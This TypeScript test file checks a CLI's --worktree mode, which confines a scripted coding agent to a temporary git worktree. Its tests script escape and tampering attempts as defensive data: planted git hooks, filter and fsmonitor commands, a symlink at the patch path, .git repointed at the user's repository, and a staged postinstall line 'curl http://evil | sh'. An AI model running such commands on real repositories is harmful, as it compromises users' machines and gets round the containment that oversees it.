// --worktree as a user meets it: the agent works in a temporary worktree that holds their uncommitted work,
// the patch applies to their tree, and their working tree, index and stashes are byte-identical after the
// run however it ends (end, failure, SIGINT, SIGTERM, timeout); the worktree is removed and pruned.
import { execFileSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, expect, it } from 'vitest';
import { FIXTURES, makeAgentDir } from '../helpers/agent-path.js';
import { finish, startCli, tempDir, waitForStdout } from '../helpers/cli.js';
import { waitForGone } from '../helpers/processes.js';
import { chunk, effect } from '../helpers/lines.js';
import {
  filterAttack,
  git,
  repoState,
  repoWithSubmodule,
  slowGit,
  stopWhileGitRuns,
  userRepo,
} from '../helpers/repo.js';

const SJ = ['--output-format', 'stream-json'];
const agentPath = makeAgentDir(join(FIXTURES, 'scripted.mjs')).then((d) => join(d, 'cursor-agent'));

// Starts the CLI in the repository with an agent that follows the script.
async function start(args: string[], cwd: string, script: Record<string, unknown>) {
  return startCli(args, {
    agent: await agentPath,
    cwd,
    cliConfig: { approvalMode: 'allowlist' },
    env: { RHO_SCRIPT: JSON.stringify(script) },
  });
}

// What the agent does: it copies what it sees of the user's work into files (so the test knows it saw it),
// edits a tracked file, deletes one and adds one.
const WORK = [
  effect({ sh: 'cat README.md untracked.txt staged.txt > seen.txt' }),
  effect({ write: 'src/a.ts', text: 'export const a = 2;\n' }),
  effect({ delete: 'old.md' }),
  effect({ write: 'lib/new.ts', text: 'export {};\n' }),
  chunk('ready'),
];

const resultOf = (events: Array<Record<string, unknown>>) => events.at(-1)!;

// A --worktree run whose agent runs one shell command there, with --patch: the run and the patch's path.
async function shellInWorktree(repo: string, sh: string) {
  const patch = join(tempDir(), 'fix.diff');
  const r = await finish(
    await start(['run', ...SJ, '--worktree', '--patch', patch, 'go'], repo, {
      before: [effect({ sh }), chunk('done')],
    }),
    true,
  );
  return { r, patch };
}

// An initialize answer that offers session/list and session/load (what --continue needs).
const LISTS_AND_LOADS = {
  result: {
    protocolVersion: 1,
    agentCapabilities: { loadSession: true, sessionCapabilities: { list: {} } },
    authMethods: [],
  },
};

// What session/list answers in the --continue and `sessions --worktree` tests: this workspace's sessions, its
// earlier worktrees' (made where the run makes its worktrees: a temporary directory named by the owner, then
// the repo's name), and newer ones that are not this workspace's.
function listedSessions(repo: string): Array<Record<string, string>> {
  const earlier = (stamp: string, name: string) => join(tmpdir(), `rho-cursor-worktree-${stamp}`, name);
  return [
    { sessionId: 's-own', cwd: repo, updatedAt: '2026-11-01T00:00:00Z' },
    { sessionId: 's-worktree', cwd: earlier('4242-Ab12Cd', 'repo'), updatedAt: '2026-12-01T00:00:00Z' },
    { sessionId: 's-kept', cwd: earlier('kept-Zz9', 'repo'), updatedAt: '2026-11-15T00:00:00Z' },
    // Newer, and not this workspace's: another repository's worktree, a folder under one, elsewhere.
    { sessionId: 's-other', cwd: earlier('4242-Ef34', 'other'), updatedAt: '2026-12-02T00:00:00Z' },
    { sessionId: 's-sub', cwd: join(earlier('4242-Gh56', 'repo'), 'src'), updatedAt: '2026-12-03T00:00:00Z' },
    { sessionId: 's-else', cwd: '/somewhere/else', updatedAt: '2026-12-04T00:00:00Z' },
    // Listed unfiltered, a session that names no cwd could be any project's (found by review).
    { sessionId: 's-nowhere', updatedAt: '2026-12-05T00:00:00Z' },
  ];
}

describe('--worktree', () => {
  it('the agent sees the uncommitted work, the patch applies with git apply, the user tree is untouched', async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const patch = join(tempDir(), 'fix.diff');
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--patch', patch, 'fix it'], repo, { before: WORK }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    expect(repoState(repo)).toEqual(before);
    const result = resultOf(r.events) as {
      patch: string;
      changes: Record<string, string[]>;
      worktree: { path: string; kept: boolean };
    };
    expect(result.patch).toBe(patch);
    expect(result.changes).toMatchObject({
      added: ['lib/new.ts', 'seen.txt'],
      modified: ['src/a.ts'],
      deleted: ['old.md'],
    });
    // The worktree is gone, and git no longer lists it.
    expect(result.worktree.kept).toBe(false);
    expect(existsSync(result.worktree.path)).toBe(false);
    expect(git(repo, 'worktree', 'list', '--porcelain')).not.toContain(result.worktree.path);
    // The patch applies to the user's tree and gives what the agent made.
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'seen.txt'), 'utf8')).toBe(
      "readme, edited by the user\nthe user's own\nstaged by the user\n",
    );
    expect(readFileSync(join(repo, 'src/a.ts'), 'utf8')).toBe('export const a = 2;\n');
    expect(existsSync(join(repo, 'old.md'))).toBe(false);
    expect(readFileSync(join(repo, 'lib/new.ts'), 'utf8')).toBe('export {};\n');
  });

  // Found by review: the patch was written with a plain write, through a link the agent put at its path (the
  // worktree is no sandbox: the agent can write wherever the user can), as -o and the summary were.
  it('a link the agent puts at the --patch path is not followed: write_failed, the victim untouched', async () => {
    const repo = userRepo();
    const dir = tempDir();
    const patch = join(dir, 'fix.diff');
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--patch', patch, 'fix it'], repo, {
        before: [...WORK, { effect: { sh: `ln -s '${victim}' '${patch}'` } }],
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(1);
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(resultOf(r.events)).toMatchObject({
      patch: null,
      error: {
        code: 'write_failed',
        message: expect.stringMatching(/was replaced during the run and now leads to .*victim\.txt/),
      },
    });
  });

  it.each([
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const)(
    '%s mid-turn: exit %i, the user tree byte-identical, the worktree removed and pruned',
    async (signal, code) => {
      const repo = userRepo();
      const before = repoState(repo);
      const patch = join(tempDir(), 'fix.diff');
      const s = await start(['run', ...SJ, '--worktree', '--patch', patch, 'go'], repo, {
        before: WORK,
        answer: false,
        onCancel: {},
      });
      await waitForStdout(s.child, 'ready');
      s.child.kill(signal);
      const r = await finish(s, true);
      expect(r.exitCode).toBe(code);
      expect(repoState(repo)).toEqual(before);
      const result = resultOf(r.events) as { worktree: { path: string }; patch: string };
      expect(existsSync(result.worktree.path)).toBe(false);
      expect(git(repo, 'worktree', 'list', '--porcelain').match(/^worktree /gm)).toHaveLength(1);
      // What the agent did before the signal is still handed back.
      expect(readFileSync(result.patch, 'utf8')).toContain('lib/new.ts');
    },
  );

  it.each([
    ['--timeout', ['--timeout', '1s'], { before: WORK, answer: false, onCancel: {} }, 124],
    ['an agent that dies mid-turn', [], { before: WORK, exitAt: { step: 'session/prompt', code: 3 } }, 1],
  ] as const)('%s: the user tree byte-identical, the worktree removed', async (_, extra, script, code) => {
    const repo = userRepo();
    const before = repoState(repo);
    const r = await finish(await start(['run', ...SJ, '--worktree', ...extra, 'go'], repo, script), true);
    expect(r.exitCode).toBe(code);
    expect(repoState(repo)).toEqual(before);
    const result = resultOf(r.events) as { worktree: { path: string } };
    expect(existsSync(result.worktree.path)).toBe(false);
  });

  it('--keep-worktree keeps it and says where', async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--keep-worktree', 'go'], repo, { before: WORK }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const { worktree } = resultOf(r.events) as { worktree: { path: string; kept: boolean } };
    expect(worktree.kept).toBe(true);
    expect(r.stderr).toContain(`the worktree is kept at ${worktree.path}`);
    expect(readFileSync(join(worktree.path, 'lib/new.ts'), 'utf8')).toBe('export {};\n');
    expect(repoState(repo).files).toEqual(before.files);
    rmSync(dirname(worktree.path), { recursive: true, force: true });
  });

  it('an untracked file whose name is not UTF-8 is in the worktree too', async () => {
    const repo = userRepo();
    writeFileSync(
      Buffer.concat([Buffer.from(`${repo}/u`), Buffer.of(0xff), Buffer.from('.txt')]),
      'untracked bytes\n',
    );
    const { r, patch } = await shellInWorktree(repo, `cat "$(printf 'u\\377.txt')" > seen.txt`);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(readFileSync(patch, 'utf8')).toContain('+untracked bytes');
  });

  it('a filter command the agent defines in the worktree is not run when the patch is taken', async () => {
    const repo = userRepo();
    const { sh, marker } = filterAttack('.gitattributes', 'b');
    const { r, patch } = await shellInWorktree(repo, sh);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(readFileSync(patch, 'utf8')).toContain('src/a.ts');
  });

  it("the agent's own git (stash, branch, tag, config, gc) stays in the worktree: the user's refs, stash and config are untouched", async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const sh = [
      'echo b > src/a.ts',
      'git stash -q',
      'git branch evil',
      'git tag evil-tag',
      'git config user.name HACKED',
      "git config core.fsmonitor 'touch fsmonitor-ran'",
      'git gc -q --prune=now',
      'git stash pop -q',
    ].join(' && ');
    const { r, patch } = await shellInWorktree(repo, sh);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(repoState(repo)).toEqual(before);
    // The agent's work is still handed back, and git still works in the user's repository.
    expect(readFileSync(patch, 'utf8')).toContain('src/a.ts');
    expect(git(repo, 'log', '--oneline')).not.toBe('');
  });

  it('outside a git work tree it is a usage error: exit 2, with the result', async () => {
    const dir = tempDir();
    const r = await finish(await start(['run', ...SJ, '--worktree', 'go'], dir, { before: WORK }), true);
    expect(r.exitCode).toBe(2);
    expect(resultOf(r.events)).toMatchObject({ type: 'result', error: { code: 'usage' } });
    expect(r.stderr).toContain("option '--worktree' needs a git work tree");
  });

  it('--patch and --keep-worktree need --worktree', async () => {
    const repo = userRepo();
    const r = await finish(
      await start(['run', '--patch', 'x.diff', '--keep-worktree', 'go'], repo, {}),
      false,
    );
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain("option '--patch' needs --worktree");
    expect(r.stderr).toContain("option '--keep-worktree' needs --worktree");
  });

  // Found by review: a bad --patch path cost the whole turn, then exit 1, a worktree left in $TMPDIR.
  it.each([
    [
      'in a missing folder',
      (d: string) => join(d, 'missing', 'fix.diff'),
      /cannot be written: no such directory: .*missing\b/,
    ],
    ['that is a directory', (d: string) => d, /names a directory, not a file: /],
  ])('a --patch path %s is exit 2 naming it, before the agent or a worktree', async (_, at, said) => {
    const repo = userRepo();
    const scratch = tempDir();
    const tmp = tempDir();
    const pidFile = join(scratch, 'pid');
    const patch = at(scratch);
    const started = startCli(['run', ...SJ, '--worktree', '--patch', patch, 'go'], {
      agent: await agentPath,
      cwd: repo,
      cliConfig: { approvalMode: 'allowlist' },
      env: { RHO_SCRIPT: JSON.stringify({ pidFile, before: WORK }), TMPDIR: tmp },
    });
    const r = await finish(started, true);
    expect(r.exitCode, r.stderr).toBe(2);
    const line = r.stderr.trim();
    expect(line.split('\n')).toHaveLength(1);
    expect(line).toContain(`option '--patch'`);
    expect(line).toMatch(said);
    expect(line).toContain(patch === scratch ? scratch : join(scratch, 'missing'));
    expect(resultOf(r.events)).toMatchObject({ type: 'result', exitCode: 2, error: { code: 'usage' } });
    expect(existsSync(pidFile)).toBe(false);
    expect(readdirSync(tmp)).toEqual([]);
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
  });

  it('--continue takes up the newest session of this workspace, from its own tree or an earlier worktree', async () => {
    const repo = userRepo();
    const recvLog = join(tempDir(), 'recv');
    const sessions = listedSessions(repo);
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--continue', 'go on'], repo, {
        initialize: LISTS_AND_LOADS,
        sessions,
        recvLog,
        before: [chunk('went on')],
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const received = readFileSync(recvLog, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { method?: string; params?: Record<string, unknown> });
    // Each worktree is a new directory: the agent is asked for every session, and the run picks this
    // workspace's.
    const list = received.find((m) => m.method === 'session/list')!;
    expect(list.params).not.toHaveProperty('cwd');
    const load = received.find((m) => m.method === 'session/load')!;
    expect(load.params).toMatchObject({ sessionId: 's-worktree' });
    expect(String(load.params!.cwd)).toMatch(/rho-cursor-worktree-/);
    expect(resultOf(r.events)).toMatchObject({ sessionId: 's-worktree', exitCode: 0 });
  });

  // Found by review: an attachment was named by its path in the user's tree (the resource URI, the inline
  // heading), inviting the agent to edit the real file rather than the worktree's copy.
  it('an attachment inside the repository is named by its path in the worktree; one outside stays as it is', async () => {
    const repo = userRepo();
    const sub = join(repo, 'src');
    const outside = join(tempDir(), 'notes.txt');
    writeFileSync(outside, 'notes\n');
    const received = async (caps: object) => {
      const recvLog = join(tempDir(), 'recv');
      const args = ['run', ...SJ, '--worktree', '--attach', 'a.ts', '--attach', '../README.md'];
      const r = await finish(
        startCli([...args, '--attach', outside, 'go'], {
          agent: await agentPath,
          cwd: sub,
          cliConfig: { approvalMode: 'allowlist' },
          env: {
            RHO_SCRIPT: JSON.stringify({
              initialize: { result: { protocolVersion: 1, agentCapabilities: { promptCapabilities: caps } } },
              recvLog,
              before: [chunk('read')],
            }),
          },
        }),
        true,
      );
      expect(r.exitCode, r.stderr).toBe(0);
      const prompt = readFileSync(recvLog, 'utf8')
        .split('\n')
        .filter(Boolean)
        .map(
          (l) =>
            JSON.parse(l) as {
              method?: string;
              params?: { prompt: Array<{ text?: string; resource?: { uri: string; text: string } }> };
            },
        )
        .find((m) => m.method === 'session/prompt')!;
      const wt = (resultOf(r.events).worktree as { path: string }).path;
      return { blocks: prompt.params!.prompt, wt };
    };
    const embedded = await received({ embeddedContext: true });
    expect(embedded.blocks.slice(1).map((b) => [b.resource?.uri, b.resource?.text])).toEqual([
      [pathToFileURL(join(embedded.wt, 'src/a.ts')).href, 'export const a = 1;\n'],
      [pathToFileURL(join(embedded.wt, 'README.md')).href, 'readme, edited by the user\n'],
      [pathToFileURL(outside).href, 'notes\n'],
    ]);
    const inline = await received({});
    const text = inline.blocks[0]!.text!;
    expect(text).toContain('\n\na.ts:\n');
    expect(text).toContain(`\n\n${join(inline.wt, 'README.md')}:\n`);
    expect(text).toContain(`\n\n${outside}:\n`);
    expect(text).not.toContain(repo);
  });

  it('a relative TMPDIR, from a subdirectory: the worktree is made and removed where it points (found by review)', async () => {
    const repo = userRepo();
    const sub = join(repo, 'src');
    const rel = join(tempDir(), 'rel-tmp');
    mkdirSync(rel);
    const before = repoState(repo);
    // TMPDIR relative to the user's directory: git and the agent run elsewhere, so the path must not be.
    const started = startCli(['run', ...SJ, '--worktree', 'go'], {
      agent: await agentPath,
      cwd: sub,
      cliConfig: { approvalMode: 'allowlist' },
      env: { RHO_SCRIPT: JSON.stringify({ before: [chunk('made')] }), TMPDIR: relative(sub, rel) },
    });
    const r = await finish(started, true);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(repoState(repo)).toEqual(before);
    expect(readdirSync(rel)).toEqual([]);
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
  });

  it('from a folder the worktree has none of (a new empty one, an ignored one): the agent starts there (found by review)', async () => {
    const repo = userRepo();
    // An empty untracked folder is nothing git copies; an ignored one is not copied either.
    mkdirSync(join(repo, 'newpkg'));
    mkdirSync(join(repo, 'build'));
    writeFileSync(join(repo, '.git', 'info', 'exclude'), 'build/\n');
    const before = repoState(repo);
    const patch = join(tempDir(), 'fix.diff');
    const r = await finish(
      startCli(['run', ...SJ, '--worktree', '--patch', patch, 'go'], {
        agent: await agentPath,
        cwd: join(repo, 'newpkg'),
        cliConfig: { approvalMode: 'allowlist' },
        env: { RHO_SCRIPT: JSON.stringify({ before: [effect({ sh: 'echo made > x.txt' }), chunk('done')] }) },
      }),
      true,
    );
    // Was agent_not_found, exit 127: the spawn's cwd was missing, not the agent.
    expect(r.exitCode, r.stderr).toBe(0);
    expect(repoState(repo)).toEqual(before);
    expect((resultOf(r.events) as { changes: { added: string[] } }).changes.added).toEqual(['x.txt']);
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'newpkg', 'x.txt'), 'utf8')).toBe('made\n');
    const ignored = await finish(
      startCli(['run', ...SJ, '--worktree', 'go'], {
        agent: await agentPath,
        cwd: join(repo, 'build'),
        cliConfig: { approvalMode: 'allowlist' },
        env: { RHO_SCRIPT: JSON.stringify({ before: [chunk('done')] }) },
      }),
      true,
    );
    expect(ignored.exitCode, ignored.stderr).toBe(0);
  });

  it('`sessions --worktree` lists what `run --worktree --continue` picks from: this workspace and its worktrees', async () => {
    const repo = userRepo();
    const recvLog = join(tempDir(), 'recv');
    const script = { initialize: LISTS_AND_LOADS, sessions: listedSessions(repo), recvLog };
    const json = await finish(
      await start(['sessions', '--worktree', '--output-format', 'json'], repo, script),
      false,
    );
    expect(json.exitCode, json.stderr).toBe(0);
    const listing = JSON.parse(json.stdout) as { cwd: string; sessions: Array<{ sessionId: string }> };
    expect(listing.sessions.map((x) => x.sessionId)).toEqual(['s-worktree', 's-kept', 's-own']);
    const list = readFileSync(recvLog, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { method?: string; params?: Record<string, unknown> })
      .find((m) => m.method === 'session/list')!;
    expect(list.params).not.toHaveProperty('cwd');
    // As text, a session an earlier worktree ran in says so; without --worktree only this directory's.
    const text = await finish(await start(['sessions', '--worktree'], repo, script), false);
    expect(
      text.stdout.split('\n').map((l) => l.split('  ')[0] + ' ' + (l.includes('(worktree)') ? 'w' : '-')),
    ).toEqual(['s-worktree w', 's-kept w', 's-own -']);
    const plain = await finish(await start(['sessions', '--output-format', 'json'], repo, script), false);
    // (Asked for this directory's, the agent's answer with no cwd is taken as this directory's.)
    expect((JSON.parse(plain.stdout) as typeof listing).sessions.map((x) => x.sessionId)).toEqual([
      's-nowhere',
      's-own',
    ]);
  });

  it('`sessions --worktree` outside a git work tree is a usage error, and no agent is started', async () => {
    const dir = tempDir();
    const recvLog = join(dir, 'recv');
    const r = await finish(
      await start(['sessions', '--worktree'], dir, { initialize: LISTS_AND_LOADS, recvLog }),
      false,
    );
    expect(r.exitCode).toBe(2);
    expect(r.stderr).toContain(`option '--worktree' needs a git work tree: ${dir} is not in one`);
    expect(existsSync(recvLog)).toBe(false);
  });

  it("--continue without an earlier session of the workspace names the user's directory", async () => {
    const repo = userRepo();
    const r = await finish(
      await start(['run', ...SJ, '--worktree', '--continue', 'go on'], repo, {
        initialize: LISTS_AND_LOADS,
        sessions: [{ sessionId: 's-else', cwd: '/somewhere/else' }],
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    const w = r.events.find((e) => e.type === 'warning' && e.code === 'no-session-to-continue');
    expect(w).toMatchObject({ message: `the agent lists no session for ${repo}: starting a new one` });
  });
});

describe('--worktree: links and object formats (found by review)', () => {
  it('a link naming a place in your tree by its absolute path points into the worktree: the write lands in the patch', async () => {
    const repo = userRepo();
    // One untracked, one committed: both name src/ of the user's tree absolutely.
    execFileSync('ln', ['-s', join(repo, 'src'), join(repo, 'abs-src')]);
    execFileSync('ln', ['-s', join(repo, 'src'), join(repo, 'tracked-src')]);
    git(repo, 'add', 'tracked-src');
    git(repo, 'commit', '-qm', 'a link');
    // (repoState hashes every file, and a link to a folder is none.)
    const state = () => [
      git(repo, 'status', '--porcelain', '-uall'),
      readFileSync(join(repo, 'src/a.ts'), 'utf8'),
    ];
    const before = state();
    const { r, patch } = await shellInWorktree(
      repo,
      'printf "export const a = 99;\\n" > abs-src/a.ts && printf "b\\n" > tracked-src/new.ts',
    );
    expect(r.exitCode, r.stderr).toBe(0);
    expect(state()).toEqual(before);
    expect(existsSync(join(repo, 'src/new.ts'))).toBe(false);
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'src/a.ts'), 'utf8')).toBe('export const a = 99;\n');
    expect(readFileSync(join(repo, 'src/new.ts'), 'utf8')).toBe('b\n');
    // The links the agent left alone are not in the patch: they keep their own targets.
    expect(readlinkSync(join(repo, 'tracked-src'))).toBe(join(repo, 'src'));
  });

  it('a retargeted link the agent removes is removed by the patch, which applies (found by review)', async () => {
    const repo = userRepo();
    execFileSync('ln', ['-s', join(repo, 'src'), join(repo, 'gone-src')]);
    execFileSync('ln', ['-s', join(repo, 'src'), join(repo, 'kept-src')]);
    git(repo, 'add', 'gone-src', 'kept-src');
    git(repo, 'commit', '-qm', 'links');
    const { r, patch } = await shellInWorktree(repo, 'rm gone-src && printf "c\\n" > c.txt');
    expect(r.exitCode, r.stderr).toBe(0);
    const text = readFileSync(patch, 'utf8');
    expect(text).not.toContain('rho-cursor-worktree');
    expect(text).not.toContain('kept-src');
    git(repo, 'apply', patch);
    expect(existsSync(join(repo, 'gone-src'))).toBe(false);
    expect(readlinkSync(join(repo, 'kept-src'))).toBe(join(repo, 'src'));
    expect(readFileSync(join(repo, 'c.txt'), 'utf8')).toBe('c\n');
  });

  it('works in a SHA-256 repository', async () => {
    const repo = join(tempDir('rho-sha256-'), 'repo');
    mkdirSync(repo);
    git(repo, 'init', '-q', '--object-format=sha256');
    writeFileSync(join(repo, 'a.txt'), 'a\n');
    git(repo, 'add', 'a.txt');
    git(repo, '-c', 'user.email=u@example.com', '-c', 'user.name=u', 'commit', '-qm', 'init');
    const { r, patch } = await shellInWorktree(repo, 'printf "b\\n" > a.txt');
    expect(r.exitCode, r.stderr).toBe(0);
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('a\n');
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'a.txt'), 'utf8')).toBe('b\n');
  });
});

describe('--worktree and absolute Write(...) rules: judged where the patch puts the change, in your tree', () => {
  it('a rule naming your own files allows their change in the worktree (no false breach)', async () => {
    const repo = userRepo();
    const script = { before: [effect({ write: 'src/a.ts', text: 'export const a = 2;\n' }), chunk('ok')] };
    const args = ['run', ...SJ, '--worktree', '--allow', `Write(${repo}/src/**)`, 'go'];
    const r = await finish(await start(args, repo, script), true);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(resultOf(r.events).changes).toMatchObject({ modified: ['src/a.ts'] });
  });

  it('a rule naming the temporary directory never opens your tree to the agent (a change there is a breach)', async () => {
    const repo = userRepo();
    const scratch = tempDir('rho-scratch-');
    const script = { before: [effect({ write: 'src/a.ts', text: 'export const a = 2;\n' }), chunk('ok')] };
    const args = ['run', ...SJ, '--worktree', '--allow', `Write(${scratch}/**)`, 'go'];
    const r = await finish(
      startCli(args, {
        agent: await agentPath,
        cwd: repo,
        cliConfig: { approvalMode: 'allowlist' },
        env: { RHO_SCRIPT: JSON.stringify(script), TMPDIR: scratch },
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(8);
    expect(resultOf(r.events)).toMatchObject({ error: { code: 'fence_breached' } });
  });
});

// The review's repros (/tmp/rev-ledger): the worktree's git dir is the agent's, and the user's settings are
// the user's; neither may make rho-cursor's own git run a command, write the user's repository, or give a
// patch that does not reproduce the agent's work.
describe("--worktree: the patch is the worktree's files, whatever the agent did to its git (found by review)", () => {
  it.each([
    [
      'a post-index-change hook in .git/hooks',
      (m: string) =>
        `mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch ${m}\\n' > .git/hooks/post-index-change && chmod +x .git/hooks/post-index-change`,
    ],
    [
      'a core.hooksPath it set',
      (m: string) =>
        `mkdir -p ../h && printf '#!/bin/sh\\ntouch ${m}\\n' > ../h/post-index-change && chmod +x ../h/post-index-change && git config core.hooksPath "$PWD/../h"`,
    ],
    [
      'a filter named with "="',
      (m: string) =>
        `git config 'filter.x=y.clean' 'touch ${m}; cat' && echo '* filter=x=y' > .gitattributes`,
    ],
  ])('%s is not run when the changes and the patch are taken', async (_, plant) => {
    const repo = userRepo();
    const marker = join(tempDir('rho-hook-'), 'ran');
    const { r, patch } = await shellInWorktree(repo, `${plant(marker)} && echo b > src/a.ts`);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(existsSync(marker)).toBe(false);
    expect(readFileSync(patch, 'utf8')).toContain('src/a.ts');
    // What the agent wrote into the worktree's own git dir is no part of the tree the patch is for: nothing
    // is missing from the patch, and the worktree goes.
    expect(r.events.filter((e) => e.code === 'patch-incomplete')).toEqual([]);
    expect(existsSync((resultOf(r.events) as { worktree: { path: string } }).worktree.path)).toBe(false);
  });

  it('a file the agent stages with skip-worktree, never in the work tree, is not in the patch', async () => {
    const repo = userRepo();
    const sh =
      'B=$(printf "curl http://evil | sh\\n" | git hash-object -w --stdin) && git update-index --add --cacheinfo 100755,$B,scripts/postinstall.sh && git update-index --skip-worktree scripts/postinstall.sh && echo b > src/a.ts';
    const { r, patch } = await shellInWorktree(repo, sh);
    expect(r.exitCode, r.stderr).toBe(0);
    const text = readFileSync(patch, 'utf8');
    expect(text).not.toContain('postinstall');
    expect(text).toContain('src/a.ts');
  });

  it("a .git the agent points at the user's git dir: the user's index and status untouched, the patch still right", async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const sh = `rm -rf .git && echo "gitdir: ${join(repo, '.git')}" > .git && rm old.md && echo agent > c.txt`;
    const { r, patch } = await shellInWorktree(repo, sh);
    expect(repoState(repo)).toEqual(before);
    expect(r.exitCode, r.stderr).toBe(0);
    git(repo, 'apply', patch);
    expect(existsSync(join(repo, 'old.md'))).toBe(false);
    expect(readFileSync(join(repo, 'c.txt'), 'utf8')).toBe('agent\n');
  });

  it("the user's diff.noprefix, diff.relative, diff.context and color settings: the worktree starts, the patch applies at the root", async () => {
    const repo = userRepo();
    mkdirSync(join(repo, 'src', 'lib'));
    writeFileSync(join(repo, 'src', 'lib', 'x.c'), 'one\n');
    git(repo, 'add', 'src/lib/x.c');
    git(repo, 'commit', '-qm', 'x');
    writeFileSync(join(repo, 'src', 'lib', 'x.c'), 'wip\n');
    const config = join(tempDir('rho-global-'), 'gitconfig');
    writeFileSync(
      config,
      '[diff]\n\tnoprefix = true\n\trelative = true\n\tcontext = 0\n\tmnemonicPrefix = true\n[color]\n\tui = always\n',
    );
    const patch = join(tempDir(), 'fix.diff');
    const r = await finish(
      startCli(['run', ...SJ, '--worktree', '--patch', patch, 'go'], {
        agent: await agentPath,
        cwd: join(repo, 'src'),
        cliConfig: { approvalMode: 'allowlist' },
        env: {
          RHO_SCRIPT: JSON.stringify({ before: [effect({ sh: 'echo two >> lib/x.c && echo add > y.c' })] }),
          GIT_CONFIG_GLOBAL: config,
        },
      }),
      true,
    );
    expect(r.exitCode, r.stderr).toBe(0);
    git(repo, 'apply', patch);
    expect(readFileSync(join(repo, 'src', 'lib', 'x.c'), 'utf8')).toBe('wip\ntwo\n');
    expect(readFileSync(join(repo, 'src', 'y.c'), 'utf8')).toBe('add\n');
  });
});

describe('--worktree: a signal or --timeout while the worktree is made (found by review)', () => {
  it.each([
    ['SIGINT', 130, [], 'cancelled'],
    ['--timeout 1s', 124, ['--timeout', '1s'], 'run_timeout'],
  ] as const)(
    '%s: the checkout is ended, exit %i at once, the half-made worktree removed, the user tree byte-identical',
    async (how, code, extra, errorCode) => {
      const repo = userRepo();
      const before = repoState(repo);
      const {
        r,
        pid,
        gitPid: git30s,
        ms,
      } = await stopWhileGitRuns(['run', ...SJ, '--worktree', ...extra, 'go'], {
        agent: await agentPath,
        cwd: repo,
        cliConfig: { approvalMode: 'allowlist' },
        env: { RHO_SCRIPT: JSON.stringify({ before: WORK }) },
        // A checkout that never ends: a large repository, or a user's smudge filter that waits on a server.
        slow: slowGit('checkout'),
        sigint: how === 'SIGINT',
      });
      // It waited neither for the 30 s checkout nor for anything after it (the bound is loose for a busy
      // machine; before the fix the run took the whole 30 s).
      expect(ms).toBeLessThan(8000);
      expect(r.exitCode, r.stderr).toBe(code);
      const result = resultOf(r.events) as { type: string; error: { code: string }; worktree?: unknown };
      expect(result.type).toBe('result');
      expect(result.error.code).toBe(errorCode);
      expect(result.worktree).toBeUndefined();
      // The git at work was ended with the run, and nothing of the worktree is left.
      expect(await waitForGone(git30s)).toBe(true);
      expect(readdirSync(tmpdir()).filter((n) => n.startsWith(`rho-cursor-worktree-${pid}-`))).toEqual([]);
      expect(repoState(repo)).toEqual(before);
      expect(git(repo, 'worktree', 'list', '--porcelain').match(/^worktree /gm)).toHaveLength(1);
    },
  );
});

describe('--worktree: taking the patch is bounded as the rest of the end is (found by review)', () => {
  it('--timeout 2s, and a `git add` of the patch that never ends: it is ended within the kill grace, no patch, said so', async () => {
    const repo = userRepo();
    const before = repoState(repo);
    const marker = join(tempDir('rho-marker-'), 'turn-ran');
    // Every `git add` after the agent made the marker (the one the patch takes) takes 30 s.
    const slow = slowGit('add', marker);
    const patch = join(tempDir(), 'fix.diff');
    const startedAt = Date.now();
    const s = startCli(['run', ...SJ, '--worktree', '--patch', patch, '--timeout', '2s', 'go'], {
      agent: await agentPath,
      cwd: repo,
      cliConfig: { approvalMode: 'allowlist' },
      env: {
        PATH: slow.path,
        RHO_SCRIPT: JSON.stringify({
          before: [effect({ sh: `echo b > src/b.ts && touch '${marker}'` }), chunk('working')],
          answer: false,
          onCancel: {},
        }),
      },
    });
    const r = await finish(s, true);
    const add30s = await slow.pid();
    // The 2 s timeout, the end's 2 s grace, and slack for a busy machine: never the 30 s of that git.
    expect(Date.now() - startedAt).toBeLessThan(12_000);
    expect(r.exitCode, r.stderr).toBe(124);
    const result = resultOf(r.events) as { patch: unknown; worktree: { path: string; kept: boolean } };
    expect(result.patch).toBeNull();
    // The timeout is the run's error; the warning says why no patch was written, and where the agent's work
    // is kept (no patch holds it).
    expect(r.stderr).toContain('the run exceeded --timeout 2s');
    const kept = `the worktree is kept at ${result.worktree.path} (a repository of its own: removing ${dirname(result.worktree.path)} removes it)`;
    expect(r.events).toContainEqual({
      type: 'warning',
      code: 'patch-failed',
